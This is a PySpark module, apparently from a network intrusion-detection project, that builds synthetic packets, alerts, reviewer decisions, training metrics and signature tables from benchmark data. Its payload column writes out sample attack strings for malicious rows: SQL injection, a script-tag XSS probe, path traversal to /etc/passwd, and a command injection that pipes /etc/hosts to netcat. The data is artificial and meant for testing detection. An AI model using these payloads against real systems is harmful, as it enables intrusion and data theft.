"""Packets and stored tables derived from the given tables.

The expressions of :data:`PACKET_COLUMNS` are plain SQL understood by Spark and by the SQL oracle, so
both read the same packets. Everything else here is built with DataFrame expressions.
"""

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from trafficlens import schema
from trafficlens.functions import rules

PACKET_COLUMNS = {
    "packet_id": "event_id",
    "ts": "ts",
    "src": """case when event_id % 10 < 6 then '192.168.1.' || cast(100 + user_id % 100 as varchar(9))
        when event_id % 10 < 8 then '203.0.113.' || cast(1 + user_id % 254 as varchar(9))
        when event_id % 10 = 8 then '8.8.8.' || cast(1 + user_id % 254 as varchar(9))
        else '172.16.1.' || cast(10 + user_id % 2 * 10 as varchar(9)) end""",
    "dst": """case when event_id % 7 < 3 then '192.168.1.' || cast(10 * (1 + event_id % 5) as varchar(9))
        when event_id % 7 < 5 then '203.0.113.' || cast(1 + event_id % 254 as varchar(9))
        else '1.1.1.' || cast(1 + event_id % 9 as varchar(9)) end""",
    "proto": "case when event_id % 20 = 0 then 'icmp' when event_type = 'purchase' then 'udp' else 'tcp' end",
    "sport": "case when event_id % 20 = 0 then null else cast(1024 + user_id * 37 % 60000 as int) end",
    "dport": """case when event_id % 20 = 0 then null
        when event_type = 'purchase' then case event_id % 3 when 0 then 53 when 1 then 123 else 5353 end
        else case event_id % 8 when 0 then 22 when 1 then 80 when 2 then 443 when 3 then 21 when 4 then 3306
        when 5 then 8080 when 6 then 4444 else 80 end end""",
    "flags": """case when event_id % 20 = 0 or event_type = 'purchase' then null when event_type = 'signup' then 2
        when event_type = 'click' then 16 else 24 end""",
    "len": "cast(floor(value * 3) as int) + 40",
    "ttl": "cast(32 + event_id % 97 as int)",
    "payload": """case when event_type = 'signup' then null
        when event_type = 'error' then case event_id % 10
        when 0 then 'GET /login?username=admin' || chr(39) || ' --&password=test HTTP/1.1'
        when 1 then 'GET /search?q=<script>alert(1)</script> HTTP/1.1'
        when 2 then 'USER admin' || chr(13) || chr(10) || 'PASS 123456' || chr(13) || chr(10)
        when 3 then 'GET /view?page=../../etc/passwd.php HTTP/1.1'
        when 4 then 'GET /gate.php?id=' || cast(event_id as varchar(19)) || ' HTTP/1.1'
        when 5 then 'BEGIN_DATA:customer_data.csv:BASE64DATA:bmFtZQ==END_DATA'
        when 6 then 'ping; cat /etc/hosts | nc backdoor'
        when 7 then '{"command":"update","id":"bot' || cast(user_id as varchar(19)) || '"}'
        when 8 then 'GET / HTTP/1.1' || chr(13) || chr(10) || 'User-Agent: slowloris'
        else 'GET /login?username=' || chr(39) || ' OR 1=1 --&password=test HTTP/1.1' end
        when event_type = 'purchase' then 'DNS_QUERY_example.com'
        when event_type = 'view' then 'GET /index.html HTTP/1.1' || chr(13) || chr(10) || 'Host: example.com' || chr(13) || chr(10)
        else 'SSH-2.0-OpenSSH_8.2p1' end""",
    "is_malicious": "event_type = 'error'",
}


def table(spark: SparkSession, folder: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{folder}/{name}.parquet")


def spread(scan: DataFrame, partitions: int | None = None) -> DataFrame:
    """Deal the rows of a scan out evenly before heavy work on each: to ``partitions``, else as many as the session shuffles to."""
    return scan.repartition(partitions or int(scan.sparkSession.conf.get("spark.sql.shuffle.partitions")))


def packets_from_events(events: DataFrame) -> DataFrame:
    """Canonical packets; works on a batch and on a stream of events."""
    derived = events.selectExpr(*[f"{sql} as {name}" for name, sql in PACKET_COLUMNS.items()])
    return derived.select(
        *[(F.col(n) if n in PACKET_COLUMNS else F.lit(None)).cast(t).alias(n) for n, t in schema.PACKET.items()]
    )


def packets(spark: SparkSession, folder: str) -> DataFrame:
    spark.conf.set("spark.sql.session.timeZone", "UTC")
    return packets_from_events(table(spark, folder, "events"))


def detections(spark: SparkSession, folder: str, vectors: bool = False) -> DataFrame:
    """One detection per packet; ``vectors`` fills ``feature_data`` with the 35 values, else it is NULL."""
    from trafficlens.operators.alerts import detections_from
    from trafficlens.operators.features import feature_vectors

    scored = scored_packets(spark, folder)
    if not vectors:
        return detections_from(scored)
    return detections_from(feature_vectors(scored, keep=tuple(c for c in scored.columns if c != "packet_id")), "features")


def scored_packets(spark: SparkSession, folder: str) -> DataFrame:
    """Packets with a reproducible confidence."""
    confidence = ((F.col("packet_id") * 37) % 100).cast("double") / 100.0
    return packets(spark, folder).withColumn("confidence", confidence)


def described_alerts(spark: SparkSession, folder: str) -> DataFrame:
    from trafficlens.operators.alerts import packet_alerts

    return packet_alerts(scored_packets(spark, folder))


def alerts(spark: SparkSession, folder: str) -> DataFrame:
    from trafficlens.operators.alerts import alerts_from

    return alerts_from(detections(spark, folder))


def decisions(spark: SparkSession, folder: str) -> DataFrame:
    """Reviewer log: some alerts decided twice, some never, some decisions for alerts that do not exist."""
    d = detections(spark, folder).filter("is_malicious and confidence > 0.65")

    def entry(status, notes, hours):
        return F.struct(
            F.lit(status).alias("status"), F.lit(notes).alias("admin_notes"),
            (F.col("timestamp") + F.expr(f"interval {hours} hours")).alias("decided_at"),
        )

    log = F.when(
        F.col("id") % 3 == 0,
        F.array(entry("needs_analysis", "second look", 1), entry("confirmed", "true positive", 2)),
    ).when(F.col("id") % 3 == 1, F.array(entry("rejected", "false positive", 1)))
    return d.select(rules.alert_id(F.col("id")).alias("alert_id"), F.explode(log).alias("e")).select("alert_id", "e.*")


def feedback(spark: SparkSession, folder: str, vectors: bool = False) -> DataFrame:
    """Feedback row per final reviewer verdict, keyed by the detection; ``vectors`` as in :func:`detections`."""
    from trafficlens.operators.alerts import feedback_from, resolve_status

    resolved = resolve_status(alerts(spark, folder), decisions(spark, folder))
    return feedback_from(resolved, detections(spark, folder, vectors))


def training_history(spark: SparkSession, folder: str) -> DataFrame:
    """One training run per day of detections, with the metrics reached on that day."""
    from trafficlens.operators.metrics import binary_metrics

    d = detections(spark, folder).select(
        F.date_trunc("day", "timestamp").alias("day"),
        F.col("is_malicious").cast("int").alias("label"),
        rules.is_malicious_score(F.col("confidence")).cast("int").alias("prediction"),
    )
    runs = binary_metrics(d, by=["day"])
    return runs.select(
        F.datediff(F.col("day"), F.lit("2024-01-01").cast("date")).cast("bigint").alias("id"),
        (F.col("day") + F.expr("interval 23 hours")).alias("timestamp"),
        F.lit("RandomForest").alias("model_type"),
        F.when(F.col("day") == F.lit("2024-01-01").cast("timestamp"), "initial").otherwise("retraining").alias("training_type"),
        F.col("n").alias("dataset_size"), "accuracy", "precision", "recall", F.col("f1").alias("f1_score"),
        "false_positive_rate", (F.col("n") / 100.0).alias("training_time"),
    )


def signatures(spark: SparkSession, folder: str) -> DataFrame:
    """Stored user signatures, one per nation."""
    start = F.lit("2024-01-01 00:00:00").cast("timestamp")
    key = F.col("n_nationkey")
    return table(spark, folder, "nation").select(
        key.cast("bigint").alias("id"),
        F.concat(F.lit("bot_"), key).alias("name"),
        F.concat(F.lit('"id":"bot'), key, F.lit('"')).alias("pattern"),
        F.col("n_name").alias("description"), F.lit("custom").alias("category"), F.lit(True).alias("is_active"),
        start.alias("created_at"), start.alias("updated_at"),
    )


def signature_additions(spark: SparkSession, folder: str) -> DataFrame:
    """Log of added or changed signatures, one entry per supplier; names repeat."""
    key = F.col("s_suppkey")
    return table(spark, folder, "supplier").select(
        (key + 1000).alias("id"),
        F.concat(F.lit("bot_"), key % 40).alias("name"),
        F.concat(F.lit('"command":".*"id":"bot'), key, F.lit('"|'), F.col("s_name"), F.lit(" reported host")).alias("pattern"),
        F.col("s_name").alias("description"), F.lit("custom").alias("category"),
        F.timestamp_seconds(F.lit(1704153600) + key * 60).alias("added_at"),
    )


def signature_toggles(spark: SparkSession, folder: str) -> DataFrame:
    return table(spark, folder, "supplier").select(
        F.col("s_nationkey").cast("bigint").alias("id"),
        (F.col("s_acctbal") > 3000).alias("is_active"),
        F.timestamp_seconds(F.lit(1704153600) + F.col("s_suppkey") * 60).alias("changed_at"),
    )


def raw_flows(spark: SparkSession, folder: str) -> DataFrame:
    """Packets under the column names of a captured flow file."""
    p = packets(spark, folder)
    return p.select(
        "packet_id", F.col("src").alias("src_ip"), F.col("dst").alias("dst_ip"), F.col("sport").alias("src_port"),
        F.col("dport").alias("dst_port"), F.col("proto").alias("protocol"), F.col("len").alias("pkt_len"),
        F.col("flags").alias("tcp_flags"), "ttl", F.col("ts").alias("timestamp"), "payload",
        F.when(F.col("is_malicious"), "Attack").otherwise("BENIGN").alias("label"),
    )


def flow_features(spark: SparkSession, folder: str) -> DataFrame:
    """Wide flow table: identifiers, ten named statistics, text label."""
    p = packets(spark, folder)
    size, ttl = F.col("len").cast("double"), F.col("ttl").cast("double")
    stats = {
        "Average Packet Size": size, "Flow Bytes/s": size / ttl, "Max Packet Length": size * 2.0,
        "Fwd Packet Length Mean": size / 2.0, "Fwd IAT Min": ttl, "Total Length of Fwd Packets": size + ttl,
        "Flow IAT Mean": ttl * 2.0, "Fwd Packet Length Max": size + 1.0, "Fwd IAT Std": ttl / 2.0,
        "Fwd Header Length": F.lit(20.0),
    }
    return p.select(
        F.concat_ws("-", "src", "dst", F.col("sport").cast("string"), F.col("dport").cast("string"), "proto").alias("Flow ID"),
        F.col("src").alias("Source IP"), F.col("sport").alias("Source Port"), F.col("dst").alias("Destination IP"),
        F.col("dport").alias("Destination Port"), F.col("proto").alias("Protocol"), F.col("ts").alias("Timestamp"),
        *[c.alias(n) for n, c in stats.items()],
        F.when(F.col("is_malicious"), "Web Attack").otherwise("BENIGN").alias("Label"),
    )
